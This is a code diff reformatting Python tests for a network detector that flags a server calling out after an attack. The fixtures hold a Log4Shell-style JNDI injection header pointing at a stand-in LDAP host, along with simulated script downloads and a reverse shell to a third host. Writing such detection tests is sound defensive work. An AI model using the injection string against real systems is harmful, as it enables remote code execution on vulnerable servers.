@@ -23,15 +23,21 @@ def packet(at: float, source: str, target: str, port: int) -> Packet:
     return Packet(ts=START + int(at * SECOND), src=parse(source), dst=parse(target), sport=40000, dport=port, proto=6)
 
 
-def request(at: float, source: str, target: str, path: str, *, agent: str = "Mozilla/5.0", odd: tuple[tuple[str, str], ...] = ()) -> Event:
-    return HttpRequest(packet(at, source, target, 80), "GET", "www", path, agent, "", "", "", "", -1, False, (), "", odd)
+def request(
+    at: float, source: str, target: str, path: str, *, agent: str = "Mozilla/5.0", odd: tuple[tuple[str, str], ...] = ()
+) -> Event:
+    return HttpRequest(
+        packet(at, source, target, 80), "GET", "www", path, agent, "", "", "", "", -1, False, (), "", odd
+    )
 
 
 def attack(at: float = 0) -> Event:
     return request(at, ATTACKER, VICTIM, "/", odd=(("x-api-version", "${jndi:ldap://10.0.0.9:1389/a}"),))
 
 
-def flows_after(events: list[Event], *servers: str, at: float = 5, first: bool = True, size: int = 1 << 30) -> list[Alert]:
+def flows_after(
+    events: list[Event], *servers: str, at: float = 5, first: bool = True, size: int = 1 << 30
+) -> list[Alert]:
     """What flows raise after events, where the attacker had called the victim before."""
     unit = detector(CALLBACK)
     assert heard(unit, events) == []
@@ -66,7 +72,12 @@ def test_code_from_a_host_that_the_exploit_names() -> None:
 
 def test_a_shell_to_a_third_host() -> None:
     """The shell goes elsewhere: told all the same."""
-    alert = one(heard(detector(CALLBACK), [attack(), RatMessage(packet(2, VICTIM, OTHER, 9001), "command shell", "sh: no job control", True)]))
+    alert = one(
+        heard(
+            detector(CALLBACK),
+            [attack(), RatMessage(packet(2, VICTIM, OTHER, 9001), "command shell", "sh: no job control", True)],
+        )
+    )
     assert alert.severity == Severity.high
     assert alert.numbers["called"] == OTHER
 
@@ -80,9 +91,23 @@ def test_innocent_twins_are_quiet() -> None:
     own = request(0, VICTIM, VICTIM, "/", odd=(("x-api-version", "${jndi:ldap://10.0.0.9:1389/a}"),))
     assert alerts_of(after(own), Story().flow(0, VICTIM, VICTIM, 80).flow(1, VICTIM, VICTIM, 80).changes()) == []
     assert (
-        heard(detector(CALLBACK), [attack(), request(1, VICTIM, OTHER, "/news", agent="Mozilla/5.0"), request(2, OTHER, NAMED, "/a.sh", agent="curl/8")]) == []
+        heard(
+            detector(CALLBACK),
+            [
+                attack(),
+                request(1, VICTIM, OTHER, "/news", agent="Mozilla/5.0"),
+                request(2, OTHER, NAMED, "/a.sh", agent="curl/8"),
+            ],
+        )
+        == []
     )
-    assert heard(detector(CALLBACK), [RatMessage(packet(2, VICTIM, OTHER, 9001), "command shell", "sh: no job control", True)]) == []
+    assert (
+        heard(
+            detector(CALLBACK),
+            [RatMessage(packet(2, VICTIM, OTHER, 9001), "command shell", "sh: no job control", True)],
+        )
+        == []
+    )
 
 
 def test_repetition_is_one_finding() -> None:
